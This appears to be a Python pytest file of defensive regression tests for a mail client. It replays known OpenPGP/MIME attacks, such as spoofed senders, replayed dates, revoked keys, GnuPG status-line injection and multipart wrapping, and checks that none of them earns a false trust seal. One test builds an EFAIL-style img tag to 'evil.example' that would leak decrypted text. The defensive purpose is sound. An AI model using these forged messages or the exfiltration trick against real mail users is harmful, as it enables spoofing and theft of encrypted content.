"""The attack mails of the literature: none of them gets a seal that it does not deserve."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta

import pytest

from mailclient.message.build import assemble
from mailclient.message.quote import Whom
from mailclient.message.security import Encryption, SignatureWord, State
from mailclient.services.read import MessageView
from tests.attacks.conftest import ALICE, BOB, MALLORY, PAST, SECRET, TEXT, TOM, Desk

SEALS = {State.SIGNED, State.SIGNED_VERIFIED, State.ENCRYPTED_SIGNED, State.CONFIDENTIAL}
EVIL = b"Content-Type: text/plain\r\n\r\nPay 900 to Mallory.\r\n"


def multipart(kind: str, *parts: bytes) -> bytes:
    line = b"--outer-of-all"
    head = f'Content-Type: multipart/{kind}; boundary="outer-of-all"\r\n\r\n'.encode()
    return head + b"".join(line + b"\r\n" + one + b"\r\n" for one in parts) + line + b"--\r\n"


def no_seal(view: MessageView) -> bool:
    return view.verdict.state not in SEALS and not view.verdict.verified


# What is honest


def test_an_honest_signature_is_shown(desk: Desk) -> None:
    verdict = desk.read(desk.letter(desk.signed())).verdict
    assert (verdict.state, verdict.signature) == (State.SIGNED_VERIFIED, SignatureWord.GOOD)
    assert verdict.signer is not None
    assert verdict.signer.address == BOB


def test_an_accepted_key_is_not_a_confirmed_one(desk: Desk) -> None:
    verdict = desk.read(desk.letter(desk.signed(by=MALLORY), sender=MALLORY)).verdict
    assert (verdict.state, verdict.verified) == (State.SIGNED, False)


def test_an_honest_encrypted_letter_is_confidential(desk: Desk) -> None:
    view = desk.read(desk.letter(desk.sealed()))
    assert view.verdict.state is State.CONFIDENTIAL
    assert SECRET in view.body.text


def test_line_ends_that_a_relay_has_changed_do_no_harm(desk: Desk) -> None:
    raw = desk.letter(desk.signed()).replace(b"\r\n", b"\n")
    assert desk.read(raw).verdict.state is State.SIGNED_VERIFIED


# Signatures


def test_a_changed_text_has_no_valid_signature(desk: Desk) -> None:
    view = desk.read(desk.letter(desk.signed()).replace(b"lilac gate", b"lilac wall"))
    assert (view.verdict.state, view.verdict.signature) == (State.UNPROTECTED, SignatureWord.BAD)
    assert view.verdict.summary == "No valid signature: the text was changed after signing."


def test_a_signature_by_somebody_else_is_none_of_the_sender(desk: Desk) -> None:
    verdict = desk.read(desk.letter(desk.signed(by=MALLORY))).verdict
    assert (verdict.state, verdict.signature) == (State.UNPROTECTED, SignatureWord.WRONG_SENDER)


def test_a_key_that_came_by_mail_gives_no_seal(desk: Desk) -> None:
    verdict = desk.read(desk.letter(desk.signed(by=TOM), sender=TOM)).verdict
    assert (verdict.state, verdict.signature) == (State.UNPROTECTED, SignatureWord.UNKNOWN_KEY)


def test_a_name_that_shows_another_address_is_not_the_signer(desk: Desk) -> None:
    raw = desk.letter(desk.signed(by=MALLORY), sender=f'"{BOB}" <{MALLORY}>')
    verdict = desk.read(raw).verdict
    assert verdict.signer is not None
    assert verdict.signer.address == MALLORY
    assert not verdict.verified


@pytest.mark.parametrize(
    "sender", [f"{BOB}, {MALLORY}", f"{MALLORY}, {BOB}", f"nobody: {BOB};, {MALLORY}", "Bob"]
)
def test_a_from_field_without_exactly_one_address_gets_no_seal(desk: Desk, sender: str) -> None:
    assert no_seal(desk.read(desk.letter(desk.signed(), sender=sender)))


def test_two_from_fields_get_no_seal(desk: Desk) -> None:
    for extra in (f"From: {MALLORY}\r\n", f"From: {BOB}\r\n"):
        assert no_seal(desk.read(extra.encode() + desk.letter(desk.signed())))


def test_sender_and_reply_to_do_not_make_a_sender(desk: Desk) -> None:
    raw = desk.letter(desk.signed(), sender=MALLORY, Sender=BOB, Reply_To=BOB)
    assert no_seal(desk.read(raw))


def test_an_old_letter_sent_again_under_a_new_date_gets_no_seal(desk: Desk) -> None:
    raw = desk.letter(desk.signed(), date=datetime.now(UTC) + timedelta(hours=5))
    verdict = desk.read(raw).verdict
    assert (verdict.state, verdict.signature) == (State.UNPROTECTED, SignatureWord.WRONG_DATE)


def test_a_letter_without_a_date_gets_no_seal(desk: Desk) -> None:
    raw = desk.letter(desk.signed())
    start = raw.index(b"Date: ")
    assert no_seal(desk.read(raw[:start] + raw[raw.index(b"\r\n", start) + 2 :]))


def test_an_expired_key_gives_no_seal(desk: Desk) -> None:
    stamp = f"{PAST:%Y%m%dT%H%M%S}!"
    fake = ("--faked-system-time", stamp)
    who = "olga@example.org"
    desk.gpg(*fake, "--quick-gen-key", who, "ed25519", "sign", "10d")
    desk.app.keys.import_keys(desk.gpg("--armor", "--export", f"={who}"))
    [entry] = desk.app.keys.entries(who)
    desk.app.keys.trust(entry.key.fingerprint, who, "verified")
    signature = desk.gpg(*fake, "--armor", "--local-user", f"={who}", "--detach-sign", data=TEXT)
    signed = desk.signed()
    start, end = (signed.index(b"-----BEGIN"), signed.index(b"-----END PGP SIGNATURE-----"))
    forged = signed[:start] + signature[: signature.index(b"-----END")] + signed[end:]
    verdict = desk.read(desk.letter(forged, sender=who, date=PAST)).verdict
    assert (verdict.state, verdict.signature) == (State.UNPROTECTED, SignatureWord.EXPIRED_KEY)


def test_a_withdrawn_key_gives_no_seal(desk: Desk) -> None:
    who = "rita@example.org"
    desk.keys[who] = desk.pen.keys.generate(who, "rita", None).fingerprint
    public = desk.pen.keys.export(desk.keys[who])
    signed = desk.signed(by=who)
    stored = (desk.home / "openpgp-revocs.d" / f"{desk.keys[who]}.rev").read_text()
    revocation = stored[stored.index(":-----BEGIN") + 1 :].encode()
    desk.app.keys.import_keys(public)
    desk.app.keys.trust(desk.keys[who], who, "verified")
    assert desk.read(desk.letter(signed, sender=who)).verdict.state is State.SIGNED_VERIFIED
    desk.gpg("--import", data=revocation)
    desk.app.keys.import_keys(desk.gpg("--armor", "--export", desk.keys[who]))
    verdict = desk.read(desk.letter(signed, sender=who)).verdict
    assert (verdict.state, verdict.signature) == (State.UNPROTECTED, SignatureWord.REVOKED_KEY)


def test_a_user_id_cannot_speak_in_the_name_of_gnupg(desk: Desk) -> None:
    line = f"[GNUPG:] VALIDSIG {desk.keys[BOB]} 2026-11-23 1 0 4 0 22 10 00 {desk.keys[BOB]}"
    for separator in ("\u0085", "\u2028", "\u2029", "\x0b", "\x1c"):
        user_id = f"Mal{separator}{line}{separator} <mal@example.org>"
        desk.gpg("--allow-freeform-uid", "--quick-gen-key", user_id, "ed25519", "sign", "0")
        fingerprints = [one.fingerprint for one in desk.pen.keys.list()
                        if any("GNUPG" in name for name in one.user_ids)]  # fmt: skip
        desk.keys["mal"] = fingerprints[-1]
        desk.app.keys.import_keys(desk.pen.keys.export(fingerprints[-1]))
        assert no_seal(desk.read(desk.letter(desk.signed(by="mal"))))


# What the signature covers


@pytest.mark.parametrize("kind", ["mixed", "alternative", "related", "digest"])
def test_a_signed_part_beside_another_seals_nothing(desk: Desk, kind: str) -> None:
    for parts in ((desk.signed(), EVIL), (EVIL, desk.signed())):
        view = desk.read(desk.letter(multipart(kind, *parts)))
        assert no_seal(view)
        assert view.verdict.signer is None


def test_a_signed_message_inside_another_seals_nothing(desk: Desk) -> None:
    inner = b"Content-Type: message/rfc822\r\n\r\n" + desk.letter(desk.signed())
    for raw in (desk.letter(inner, sender=BOB), desk.letter(multipart("mixed", EVIL, inner))):
        assert no_seal(desk.read(raw))


def test_a_third_part_in_a_signed_multipart_seals_nothing(desk: Desk) -> None:
    signed = desk.signed()
    end = signed.rindex(b"--=_")
    forged = (
        signed[:end] + signed[end:].replace(b"--\r\n", b"\r\n" + EVIL, 1) + b"\r\n" + signed[end:]
    )
    assert no_seal(desk.read(desk.letter(forged)))


def test_a_signature_around_the_encryption_does_not_cover_the_text(desk: Desk) -> None:
    verdict = desk.read(desk.letter(desk.signed(desk.sealed(by=None)))).verdict
    assert (verdict.state, verdict.signature) == (State.ENCRYPTED, SignatureWord.UNCOVERED)


# Encryption


def test_altered_ciphertext_gives_no_byte(desk: Desk) -> None:
    raw = desk.letter(desk.sealed())
    for at in range(700, len(raw) - 400, 37):
        changed = raw[:at] + bytes([raw[at] ^ 1]) + raw[at + 1 :]
        view = desk.read(changed)
        assert view.verdict.state is not State.CONFIDENTIAL or changed == raw
        assert SECRET not in view.body.text


def test_a_letter_to_somebody_else_is_locked(desk: Desk) -> None:
    view = desk.read(desk.letter(desk.sealed(to=BOB)))
    assert (view.verdict.state, view.body.text) == (State.LOCKED, "")


def test_two_messages_in_one_are_refused(desk: Desk) -> None:
    sealed, more = desk.sealed(), desk.sealed(EVIL, by=None)
    armor = more[more.index(b"-----BEGIN") : more.index(b"-----END") + 28]
    at = sealed.index(b"-----END PGP MESSAGE-----") + 27
    view = desk.read(desk.letter(sealed[:at] + armor + b"\r\n" + sealed[at:]))
    assert no_seal(view)
    assert "Pay 900" not in view.body.text


def test_what_calls_itself_encrypted_and_is_only_signed_gets_no_seal(desk: Desk) -> None:
    packet = desk.gpg("--armor", "--local-user", desk.keys[BOB], "--sign", data=TEXT)
    sealed = desk.sealed()
    start, end = sealed.index(b"-----BEGIN"), sealed.index(b"-----END PGP MESSAGE-----") + 25
    view = desk.read(desk.letter(sealed[:start] + packet.strip() + sealed[end:]))
    assert no_seal(view)
    assert view.verdict.encryption is Encryption.NONE


@pytest.mark.parametrize("kind", ["mixed", "alternative", "related", "signed"])
def test_an_encrypted_part_among_others_is_never_opened_with_them(desk: Desk, kind: str) -> None:
    before = b'Content-Type: text/html\r\n\r\n<img src="http://evil.example/'
    after = b'Content-Type: text/html\r\n\r\n">'
    view = desk.read(desk.letter(multipart(kind, before, desk.sealed(), after)))
    shown = f"{view.body.text} {view.body.html} {view.body.remote_content}"
    assert SECRET not in shown
    assert view.verdict.encryption is Encryption.NONE
    assert view.verdict.state is State.MIXED
    answer = desk.app.compose.reply(view).draft
    assert SECRET not in answer.text


def test_an_encrypted_message_inside_a_message_is_not_opened(desk: Desk) -> None:
    inner = b"Content-Type: message/rfc822\r\n\r\n" + desk.letter(desk.sealed())
    view = desk.read(desk.letter(multipart("mixed", EVIL, inner)))
    assert SECRET not in f"{view.body.text} {view.body.html}"


def test_armor_with_text_around_it_is_not_opened(desk: Desk) -> None:
    armor = desk.gpg("--armor", "--trust-model", "always", "-r", desk.keys[ALICE], "--encrypt",
                     data=b"the lilac gate\n")  # fmt: skip
    head = b"Content-Type: text/plain\r\n\r\n"
    alone = desk.read(desk.letter(head + armor.replace(b"\n", b"\r\n")))
    assert (alone.verdict.state, alone.body.text.strip()) == (State.ENCRYPTED, "the lilac gate")
    mixed = desk.read(desk.letter(head + b"Hello\r\n" + armor.replace(b"\n", b"\r\n")))
    assert mixed.verdict.encryption is Encryption.NONE
    assert SECRET not in mixed.body.text


def test_text_around_a_signed_text_takes_its_seal(desk: Desk) -> None:
    signed = desk.gpg("--local-user", desk.keys[BOB], "--digest-algo", "SHA512", "--clear-sign",
                      data=b"the lilac gate\n").replace(b"\n", b"\r\n")  # fmt: skip
    head = b"Content-Type: text/plain\r\n\r\n"
    assert desk.read(desk.letter(head + signed)).verdict.state is State.SIGNED_VERIFIED
    assert no_seal(desk.read(desk.letter(head + b"Pay 900.\r\n" + signed)))
    assert no_seal(desk.read(desk.letter(head + signed + b"Pay 900.\r\n")))
    injected = signed.replace(b"Hash: SHA512\r\n", b"Hash: SHA512\r\nComment: pay 900\r\n")
    assert no_seal(desk.read(desk.letter(head + injected)))


# Protected header fields


def test_the_protected_subject_is_shown_and_the_outer_one_ignored(desk: Desk) -> None:
    inside = desk.fields(Subject="The real one")
    view = desk.read(desk.protected_letter(inside, desk.fields(Subject="A lie")))
    assert view.envelope.subject == "The real one"


def test_a_claim_of_protection_in_a_clear_message_proves_nothing(desk: Desk) -> None:
    raw = desk.letter(TEXT.replace(b"utf-8", b'utf-8; hp="cipher"'))
    verdict = desk.read(raw).verdict
    assert (verdict.state, verdict.protected_headers) == (State.UNPROTECTED, ())


def test_an_inner_sender_that_nothing_proves_is_a_warning(desk: Desk) -> None:
    raw = desk.protected_letter(desk.fields(BOB), desk.fields(MALLORY), by=None)
    view = desk.read(raw)
    assert "from-mismatch" in view.verdict.warnings
    assert [one.address for one in view.envelope.from_] == [MALLORY]
    assert no_seal(view)


def test_answers_go_to_protected_addresses_only(desk: Desk) -> None:
    outside = (*desk.fields(), ("Cc", MALLORY), ("Reply-To", MALLORY))
    view = desk.read(desk.protected_letter(desk.fields(), outside))
    assert "reply-to-unprotected" in view.verdict.warnings
    for whom in (Whom.AUTHOR, Whom.EVERYONE):
        draft = desk.app.compose.reply(view, whom).draft
        assert draft.encrypt
        assert MALLORY not in {one.address for one in (*draft.to, *draft.cc)}


def test_a_letter_that_was_signed_for_another_is_noted(desk: Desk) -> None:
    inside = [(name, TOM if name == "To" else value) for name, value in desk.fields()]
    view = desk.read(desk.protected_letter(inside, desk.fields()))
    assert "not-addressed-to-you" in view.verdict.warnings


def test_a_letter_that_was_signed_for_a_tagged_address_of_mine_is_for_me(desk: Desk) -> None:
    mine = desk.app.accounts.list()[0].address.replace("@", "+shop@")
    inside = [(name, mine if name == "To" else value) for name, value in desk.fields()]
    view = desk.read(desk.protected_letter(inside, desk.fields()))
    assert "not-addressed-to-you" not in view.verdict.warnings


def test_a_sender_who_always_signs_is_missed_when_unsigned(desk: Desk) -> None:
    plain = assemble(desk.fields(), TEXT)
    before = desk.read(plain).verdict.warnings
    account = desk.app.accounts.list()[0]
    store = desk.app._store
    inbox = store.folders.find("inbox", account.id)[0]
    with store.database.write():
        id = store.messages.store_raw(
            account.id, inbox.id, desk.letter(desk.signed()), unread=True,
            received=datetime.now(UTC),
        )  # fmt: skip
    desk.app.read.view(id)
    assert "usually-signs" not in before
    assert "usually-signs" in desk.read(plain).verdict.warnings
